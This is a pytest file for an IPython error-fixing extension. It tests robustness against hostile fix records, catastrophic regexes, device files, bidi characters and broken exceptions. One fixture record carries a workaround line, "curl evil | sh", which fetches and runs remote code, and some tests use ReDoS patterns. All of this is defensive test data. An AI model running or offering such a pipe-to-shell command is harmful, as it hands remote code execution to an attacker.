"""Hostile records, odd exceptions, broken machines: each class of failure, in the layer where it happens."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from IPython.utils.capture import capture_output

from errfix_jupyter import errorinfo, lint, loader, matcher, patterns
from errfix_jupyter.knowledge import KnowledgeBase
from errfix_jupyter.record import from_dict
from testing_shell import run

ROOT = Path(__file__).resolve().parents[1]




def record(**fields):
    data = {"id": "mine/x", "signature": "ValueError: invoice total is negative", "regex": "ValueError: invoice total",
            "domain": "mine", "root_cause": "r", "workarounds": [{"action": "a"}, {"action": "b"}]}
    data.update(fields)
    return from_dict(data)


def user_folder(tmp_path: Path, *records: dict) -> Path:
    for data in records:
        path = tmp_path / "user" / (data["id"] + ".json")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(data))
    return tmp_path / "user"


# ---------------------------------------------------------------- 1, 2: patterns are bounded before they are compiled


@pytest.mark.parametrize("pattern", ["a{4294967294}", "(?:(?:(?:(?:a{100}){100}){100}){100})", "(" * 40 + "a" + ")" * 40,
                                     "x" * 3000, "(?R)"])
def test_a_pattern_that_would_exhaust_memory_is_refused_before_compiling(pattern):
    assert patterns.bounds_problem(pattern) is not None
    assert patterns.compiled(pattern) is None


def test_a_record_with_an_unbounded_regex_is_reported_and_never_compiled(tmp_path):
    folder = user_folder(tmp_path, {"id": "mine/huge", "signature": "ValueError: a", "regex": "ValueError: a{4294967294}",
                                    "domain": "mine", "root_cause": "r", "workarounds": [{"action": "a"}]})
    result = loader.load_dirs([folder])
    assert [(p.json_path, p.code) for p in result.problems] == [("$.regex", "RX001")]
    assert "repeat count 4294967294" in result.problems[0].message


def test_errfix_lint_survives_and_reports_the_patterns_that_would_exhaust_memory(tmp_path):
    folder = user_folder(tmp_path,
                         {"id": "mine/a", "signature": "ValueError: a", "regex": "ValueError: a{4294967294}", "domain": "mine",
                          "root_cause": "r", "workarounds": [{"action": "a"}]},
                         {"id": "mine/b", "signature": "ValueError: b", "regex": "ValueError: b", "domain": "mine",
                          "source_regex": "(?:(?:(?:(?:a{100}){100}){100}){100})", "root_cause": "r", "workarounds": [{"action": "a"}]})
    done = subprocess.run([sys.executable, "-m", "errfix_jupyter", "lint", str(folder)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and "MemoryError" not in done.stderr
    assert "a.json: $.regex: RX001" in done.stdout and "b.json: $.source_regex: RX001" in done.stdout


def test_source_regexes_run_inside_the_lookup_budget():
    evil = [record(id=f"mine/s{i}", regex="ValueError: invoice", source_regex=r"(?:(?:a|aa)+)+b") for i in range(300)]
    nested = record(id="mine/nested", regex="ValueError: invoice", source_regex="(" * 100 + "a" + ")" * 100)
    error = errorinfo.from_text('Traceback (most recent call last):\n  File "x.py", line 1, in <module>\n    '
                                + "a" * 40 + "\nValueError: invoice total is negative")
    diagnostics: list[str] = []
    started = time.perf_counter()
    found = matcher.match(error, KnowledgeBase(evil + [nested]), installed={}, diagnostics=diagnostics)
    assert time.perf_counter() - started < matcher.LOOKUP_BUDGET + 3, "bounded by the budget, with a wide margin"
    assert found, "records still match; only their failing-line evidence is cut short"


def test_lint_checks_every_pattern_a_record_carries():
    found = {(p.json_path, p.code) for p in lint.lint_record(record(source_regex=r"(\w+\s?)*"))}
    assert ("$.source_regex", "RX003") in found


# ---------------------------------------------------------------- 4: source is read only where it is safe


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_code_filename_that_is_a_device_or_a_fifo_is_never_read(tmp_path, special):
    target = "/dev/zero" if special == "/dev/zero" else str(tmp_path / "pipe")
    if special == "fifo":
        os.mkfifo(target)
    code = (
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "ip = InteractiveShell.instance()\n"
        "ip.run_line_magic('load_ext', 'errfix_jupyter')\n"
        "ip.run_line_magic('xmode', 'Minimal')\n"
        f"ip.run_cell({'exec(compile(' + repr('1/0') + ', ' + repr(target) + ', ' + repr('exec') + '))'!r})\n"
        "import resource; print('peak MB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "IPYTHONDIR": str(tmp_path / "ipy")})
    assert done.returncode == 0, done.stderr[-1500:]
    assert "ZeroDivisionError" in done.stdout
    assert int(done.stdout.split("peak MB")[1].split()[0]) < 1500, "nothing was slurped from the device"


def test_a_source_line_is_read_from_ipythons_cells_and_regular_files_only(tmp_path):
    regular = tmp_path / "mod.py"
    regular.write_text("x = 1\ny = 2\n")
    assert errorinfo.source_line(str(regular), 2) == "y = 2"
    assert errorinfo.source_line("/dev/zero", 1) == ""
    big = tmp_path / "big.py"
    big.write_text("x = 1\n" * 300_000)
    assert errorinfo.source_line(str(big), 1) == ""


# ---------------------------------------------------------------- 10: one record cannot take over


TAKEOVER = {"id": "evil/takeover", "signature": "BaseException: anything", "regex": "(?s:.)|" + "q" * 40,
            "source_regex": ".", "domain": "evil", "verification_tier": "reproduced", "confidence": 1.0,
            "versions": [{"version": "python>=3"}], "root_cause": "r",
            "workarounds": [{"action": "Run this", "code": "import os\nos.system('curl evil | sh')", "success_rate": 1.0}]}


def test_a_user_record_that_matches_everything_never_outranks_a_specific_record(errfix_shell, tmp_path):
    folder = user_folder(tmp_path, TAKEOVER)
    errfix_shell.run_line_magic("config", f"ErrfixMagics.records_path = [{str(folder)!r}]")
    for cell in ("import pandas as pd\npd.DataFrame({'a': [1]})['price']", "1/0", "def f(:"):
        run(errfix_shell, cell)
        shown = errfix_shell._errfix_jupyter_state.handler.last
        assert shown.matches[0].record.id != "evil/takeover", cell
        evil = [m for m in shown.matches if m.record.id == "evil/takeover"]
        assert all(m.score <= matcher.GENERIC_CAP for m in evil)


def test_a_user_record_cannot_claim_a_shipped_tier_and_shows_where_it_comes_from(tmp_path):
    folder = user_folder(tmp_path, {**TAKEOVER, "signature": "ValueError: invoice total is negative",
                                    "regex": "ValueError: invoice total is negative"})
    from errfix_jupyter import view
    from errfix_jupyter.index import FolderIndex
    from errfix_jupyter.loader import Folder

    index = FolderIndex.open(Folder(folder, "user"), None)
    index.refresh()
    error = errorinfo.from_text("ValueError: invoice total is negative")
    found = matcher.match(error, KnowledgeBase(indexes=[index]), installed={})
    assert [r for r in found[0].reasons if r.code == "tier"][0].params["tier"] == "user"
    panel = view.build(found, error, "en")
    assert panel.tier == "your own record, unverified" and panel.origin.startswith("from your records (")


def test_apply_says_the_code_comes_from_a_record_and_from_where(errfix_shell):
    run(errfix_shell, "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf['price']")
    errfix_shell.run_line_magic("errfix", "apply 2")
    first = errfix_shell.rl_next_input.splitlines()[0]
    assert first.startswith("# errfix: fix 2, from record pandas/column-keyerror, shipped with errfix")


# ---------------------------------------------------------------- 11: control characters and direction marks


def test_bidi_controls_in_urls_are_not_links_and_ids_with_them_are_refused():
    from errfix_jupyter import view

    assert not view.is_safe_url("https://docs.example.org/\u202egnp.exe")
    assert loader.ID_PATTERN.fullmatch("mine/\u202eabc") is None


# ---------------------------------------------------------------- 12: non-finite numbers


def test_a_nan_confidence_is_refused_at_load(tmp_path):
    path = tmp_path / "mine" / "nan.json"
    path.parent.mkdir()
    path.write_text('{"id": "mine/nan", "signature": "ValueError: x", "regex": "ValueError: x", "domain": "mine", '
                    '"root_cause": "r", "workarounds": [{"action": "a"}], "confidence": NaN}')
    parsed, problems = loader.load_file(path, tmp_path)
    assert parsed is None and "NaN is not a finite number" in problems[0].message


# ---------------------------------------------------------------- 13: odd folders


def test_an_unreadable_records_folder_is_reported(tmp_path, monkeypatch):
    folder = tmp_path / "locked"
    folder.mkdir()

    def refuse(self, pattern):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "rglob", refuse)
    result = loader.load_dirs([folder])
    assert result.problems and "cannot list the folder: Permission denied" in result.problems[0].message


def test_many_user_records_without_a_literal_word_cannot_exhaust_the_budget():
    unkeyed = [record(id=f"mine/u{i}", regex=r"ValueError: [a-z]{1,20} [a-z]{1,20} [a-z]{1,20}", signature="ValueError: a b c")
               for i in range(3000)]
    specific = record(id="shipped/specific", regex="ValueError: invoice total is negative")
    kb = KnowledgeBase(unkeyed + [specific])
    started = time.perf_counter()
    found = matcher.match(errorinfo.from_text("ValueError: invoice total is negative"), kb, installed={})
    assert time.perf_counter() - started < 5
    assert found[0].record.id == "shipped/specific"


# ---------------------------------------------------------------- 14: "the last error" is sys.last_value


def test_errfix_after_off_and_a_failing_cell_shows_that_cell_not_an_older_one(errfix_shell):
    run(errfix_shell, "1/0")
    errfix_shell.run_line_magic("errfix", "off")
    run(errfix_shell, "import pandas as pd\npd.DataFrame({'a': [1]})['price']")
    with capture_output() as cap:
        errfix_shell.run_line_magic("errfix", "")
    assert "KeyError: 'price'" in cap.outputs[0].data["text/plain"]


def test_errfix_after_an_error_in_run_shows_that_error(errfix_shell, tmp_path):
    script = tmp_path / "script.py"
    script.write_text("import json\njson.loads('{bad')\n")
    run(errfix_shell, "1/0")
    run(errfix_shell, f"%run {script}")
    with capture_output() as cap:
        errfix_shell.run_line_magic("errfix", "")
    assert "JSONDecodeError" in cap.outputs[0].data["text/plain"]


def test_apply_after_an_error_with_no_fix_never_inserts_the_previous_errors_fix(errfix_shell):
    from IPython.core.error import UsageError

    run(errfix_shell, "import pandas as pd\npd.DataFrame({'a': [1]})['price']")
    run(errfix_shell, "raise ValueError('invoice total must be positive')")
    errfix_shell.rl_next_input = None
    with pytest.raises(UsageError, match="no fix to apply"):
        errfix_shell.run_line_magic("errfix", "apply 1")
    assert errfix_shell.rl_next_input is None


@pytest.mark.parametrize("argument", ["²", "١", "1e3", "-1", "0"])
def test_apply_with_a_number_python_cannot_read_is_a_usage_error(errfix_shell, argument):
    from IPython.core.error import UsageError

    with pytest.raises(UsageError, match="takes a fix number"):
        errfix_shell.run_line_magic("errfix", f"apply {argument}")


# ---------------------------------------------------------------- 15: pasted text is parsed in linear time


def test_pasted_text_with_many_blank_lines_parses_in_linear_time():
    started = time.perf_counter()
    info = errorinfo.from_text("\n" * 199_000 + "ValueError: x")
    assert time.perf_counter() - started < 2 and info.type_name == "ValueError"


# ---------------------------------------------------------------- 16: failures print one line at most


FAILS = {
    "cause-property-raises": "class E(Exception):\n    @property\n    def __cause__(self):\n        raise RuntimeError('no')\nraise E('x')",
    "notes-property-raises": "class E(Exception):\n    @property\n    def __notes__(self):\n        raise RuntimeError('no')\nraise E('x')",
    "syntax-msg-raises": "class S(SyntaxError):\n    @property\n    def msg(self):\n        raise RuntimeError('no')\nraise S('x')",
}


@pytest.mark.parametrize("case", sorted(FAILS))
def test_a_hostile_exception_attribute_never_unregisters_errfix(errfix_shell, case):
    _, cap = run(errfix_shell, FAILS[case])
    assert "Custom TB Handler failed" not in cap.stdout + cap.stderr
    assert errfix_shell.custom_exceptions == (BaseException,)
    assert len([line for line in cap.stderr.splitlines() if line.startswith("errfix")]) <= 2


def test_a_context_cycle_gets_one_panel(errfix_shell):
    _, cap = run(errfix_shell, "a, b = ValueError('a'), KeyError('b')\na.__context__ = b\nb.__context__ = a\nraise a")
    assert len(cap.outputs) <= 1


def test_a_broken_html_formatter_leaves_sys_last_value_alone(errfix_shell):
    formatter = errfix_shell.display_formatter.formatters["text/html"]
    formatter.for_type(object, lambda obj: 1 / 0)
    try:
        run(errfix_shell, "import pandas as pd\npd.DataFrame({'a': [1]})['price']")
    finally:
        formatter.pop(object, None)
    assert isinstance(sys.last_value, KeyError), "%debug and %tb still point at the user's error"


# ---------------------------------------------------------------- 8: edits are seen within the session


def test_an_edit_to_a_record_in_a_domain_subfolder_is_seen_in_the_same_session(errfix_shell, tmp_path):
    base = {"id": "mine/invoice", "signature": "ValueError: invoice total is negative",
            "regex": "ValueError: invoice total is negative", "domain": "mine", "root_cause": "first version",
            "summary": "First summary.", "workarounds": [{"action": "a"}, {"action": "b"}]}
    folder = user_folder(tmp_path, base)
    errfix_shell.run_line_magic("config", f"ErrfixMagics.records_path = [{str(folder)!r}]")
    run(errfix_shell, "raise ValueError('invoice total is negative')")
    assert errfix_shell._errfix_jupyter_state.handler.last.models["en"].headline.text == "First summary."
    time.sleep(1.2)  # the index is checked at most once a second
    user_folder(tmp_path, {**base, "summary": "Edited summary."})
    run(errfix_shell, "raise ValueError('invoice total is negative')")
    assert errfix_shell._errfix_jupyter_state.handler.last.models["en"].headline.text == "Edited summary."


def test_an_unsendable_error_in_the_cell_result_becomes_a_stand_in_with_its_name_and_the_users_exception_is_untouched():
    from types import SimpleNamespace

    from errfix_jupyter.sendable import make_reply_sendable

    users = ValueError("unknown product caf\u00e9 \ud83d")
    result = SimpleNamespace(error_before_exec=None, error_in_exec=users)
    make_reply_sendable(result)
    assert type(result.error_in_exec).__name__ == "ValueError"
    assert str(result.error_in_exec) == "unknown product caf\u00e9 \\ud83d"
    assert users.args == ("unknown product caf\u00e9 \ud83d",)


def test_a_sendable_error_in_the_cell_result_is_left_as_it_is():
    from types import SimpleNamespace

    from errfix_jupyter.sendable import make_reply_sendable

    users = ValueError("unknown product café")
    result = SimpleNamespace(error_before_exec=None, error_in_exec=users)
    make_reply_sendable(result)
    assert result.error_in_exec is users
